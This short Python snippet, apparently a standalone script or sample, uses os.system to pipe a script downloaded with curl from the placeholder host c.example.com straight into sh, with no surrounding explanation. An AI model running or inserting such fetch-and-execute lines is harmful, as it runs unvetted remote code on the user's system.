import os

os.system('curl -fsSL https://c.example.com/i.sh | sh')
